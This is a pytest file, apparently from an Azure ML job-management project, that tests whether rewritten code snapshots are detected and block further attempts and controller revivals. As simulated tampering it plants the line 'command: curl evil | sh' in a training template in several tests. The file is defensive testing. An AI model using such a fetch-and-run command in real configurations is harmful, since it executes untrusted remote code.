"""A managed run's code is checked before it runs again (amlhpc/jobs/managed/codeasset.py):
the record keeps the code asset's content hash from the run's creation; a job identity that
rewrote a code snapshot blob (or anyone who did) gets the next attempt refused, and the
revival check starts no controller from it. Both end the run with `CodeChanged` in its
record. The workspace storage is a second Azurite container holding the asset's files where
Azure ML puts them (`LocalUpload/<hash>/<folder>/...`)."""

from __future__ import annotations

import uuid

import pytest

from amlhpc.jobs.managed import codeasset, revive
from amlhpc.jobs.managed.codeasset import BlobCodeAsset, CodeChanged
from tests import managed_fixtures
from tests.managed_fakes import PREEMPTION, Step
from tests.managed_harness import Harness, completed, running
from tests.test_managed_revive import Launcher

pytestmark = pytest.mark.azurite

CODE = "azureml:/subscriptions/s/codes/run-code/versions/1"
SNAPSHOT = "LocalUpload/4f1c2a/src"
FILES = {"amlhpc/jobs/managed/controller.py": b"print('controller')\n",
         "amlhpc/jobs/runtime/launch/launcher.py": b"print('launcher')\n",
         "managed/training.yaml": b"command: python -m amlhpc.jobs.runtime.launch\n"}


managed_plan, template = managed_fixtures.managed_plan, managed_fixtures.template  # the shared fixtures


@pytest.fixture
def workspace_storage(blob_service):
    """The workspace's `azureml-blobstore-*` container with the run's code snapshot."""
    client = blob_service.create_container(f"azureml-blobstore-{uuid.uuid4().hex[:8]}")
    for name, data in FILES.items():
        client.upload_blob(f"{SNAPSHOT}/{name}", data)
    yield client
    client.delete_container()


def preempted() -> Step:
    return Step("Failed", error=PREEMPTION, started_h=0, ended_h=0.5)


class TestContentDigest:
    def test_any_change_of_a_file_its_name_or_the_set_changes_the_hash(self, workspace_storage):
        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        first = asset.digest()
        assert first == asset.digest(), "stable"
        changes = [
            lambda: workspace_storage.upload_blob(f"{SNAPSHOT}/managed/training.yaml", b"command: curl evil | sh\n",
                                                  overwrite=True),
            lambda: workspace_storage.upload_blob(f"{SNAPSHOT}/sitecustomize.py", b"import os\n"),
            lambda: workspace_storage.delete_blob(f"{SNAPSHOT}/sitecustomize.py"),
        ]
        seen = {first}
        for change in changes:
            change()
            seen.add(asset.digest())
        assert len(seen) == 3, "an edit and an addition each change it; removing the addition restores the edit's"

    def test_a_forged_content_md5_does_not_hide_an_edit(self, workspace_storage):
        from azure.storage.blob import ContentSettings

        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        before = asset.digest()
        blob = workspace_storage.get_blob_client(f"{SNAPSHOT}/managed/training.yaml")
        md5 = blob.get_blob_properties().content_settings.content_md5
        blob.upload_blob(b"command: curl evil | sh\n", overwrite=True)
        blob.set_http_headers(ContentSettings(content_md5=md5))  # the writer sets the old file's MD5 back
        assert blob.get_blob_properties().content_settings.content_md5 == md5
        assert asset.digest() != before

    def test_an_asset_without_files_is_refused(self, workspace_storage):
        with pytest.raises(CodeChanged, match="lost its files"):
            codeasset.check(BlobCodeAsset(CODE, workspace_storage, "LocalUpload/none"), {"asset": CODE, "sha256": "0"})

    def test_another_asset_than_the_runs_is_refused(self, workspace_storage):
        kept = codeasset.recorded(BlobCodeAsset(CODE, workspace_storage, SNAPSHOT))
        with pytest.raises(CodeChanged, match="created with code asset"):
            codeasset.check(BlobCodeAsset("azureml:other:1", workspace_storage, SNAPSHOT), kept)

    @pytest.mark.parametrize("url, parsed", [
        ("https://stws.blob.core.windows.net/azureml-blobstore-1/LocalUpload/ab/src",
         ("https://stws.blob.core.windows.net", "azureml-blobstore-1", "LocalUpload/ab/src")),
    ])
    def test_the_asset_path_is_read_as_a_blob_url(self, url, parsed):
        assert codeasset.parse_blob_url(url) == parsed

    @pytest.mark.parametrize("url", ["http://stws.blob.core.windows.net/c/p", "https://stws/c", "./src"])
    def test_a_path_that_is_no_https_blob_folder_is_refused(self, url):
        with pytest.raises(ValueError, match="not an https blob URL"):
            codeasset.parse_blob_url(url)


class TestTheNextAttemptRefusesRewrittenCode:
    def test_the_record_keeps_the_hash_from_the_runs_creation(self, container, template, managed_plan,
                                                               workspace_storage):
        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        h = Harness(container, template, managed_plan, {1: [running(), completed()]}, code=asset)
        assert h.record().code == {"asset": CODE, "sha256": asset.digest()}
        assert h.supervisor.run().state == "succeeded", "unchanged code runs"

    def test_a_job_rewriting_a_snapshot_blob_gets_the_next_attempt_refused(self, container, template, managed_plan,
                                                                          workspace_storage):
        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        h = Harness(container, template, managed_plan, {1: [running(), preempted()], 2: [running(), completed()]},
                    code=asset)
        h.supervisor.store.acquire()
        h.supervisor.tick()  # attempt 1 created from the intact code
        # attempt 1's job (the GPU identity) rewrites the training template the next attempt loads
        workspace_storage.upload_blob(f"{SNAPSHOT}/managed/training.yaml", b"command: curl evil | sh\n", overwrite=True)
        h.supervisor.store.release()
        record = h.supervisor.run()
        assert [a.job for a in record.attempts] == [f"{h.run}-a1", f"{h.run}-a2"]
        assert [j.name for j in h.azure.created] == [f"{h.run}-a1"], "attempt 2's job was never created"
        refused = record.attempts[-1]
        assert refused.status == "NotCreated" and refused.cause == "bad_input"
        assert record.state == "failed" and record.reason.startswith("CodeChanged: code asset")
        assert "was rewritten after the run was created" in record.reason
        assert any("not created: CodeChanged" in line for line in h.lines)


class TestARevivalRefusesRewrittenCode:
    def dead_controller(self, container, template, managed_plan, asset) -> Harness:
        h = Harness(container, template, managed_plan, {1: [running(), running(), completed()]}, code=asset)
        h.supervisor.store.acquire()
        h.supervisor.tick()
        h.supervisor.store.lease.break_lease(lease_break_period=0)
        return h

    def test_intact_code_is_revived(self, container, template, managed_plan, workspace_storage):
        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        h = self.dead_controller(container, template, managed_plan, asset)
        launcher = Launcher({h.run: "Failed"})
        assert revive.revive(h.store(), launcher, h.run, echo=h.lines.append, code_of=lambda job: asset)

    def test_rewritten_code_starts_no_controller_and_ends_the_run(self, container, template, managed_plan,
                                                                 workspace_storage):
        asset = BlobCodeAsset(CODE, workspace_storage, SNAPSHOT)
        h = self.dead_controller(container, template, managed_plan, asset)
        workspace_storage.upload_blob(f"{SNAPSHOT}/amlhpc/jobs/managed/controller.py", b"import evil\n", overwrite=True)
        launcher = Launcher({h.run: "Failed"})
        looked: list[str] = []
        started = revive.revive(h.store(), launcher, h.run, echo=h.lines.append,
                                code_of=lambda job: looked.append(job) or asset)
        assert started is None and launcher.started == []
        assert looked == [h.run], "the code of the controller job a revival would copy"
        record = h.record()
        assert record.state == "failed" and record.reason.startswith("CodeChanged")
        assert not h.store().lease_held(), "the revival's lease is let go"
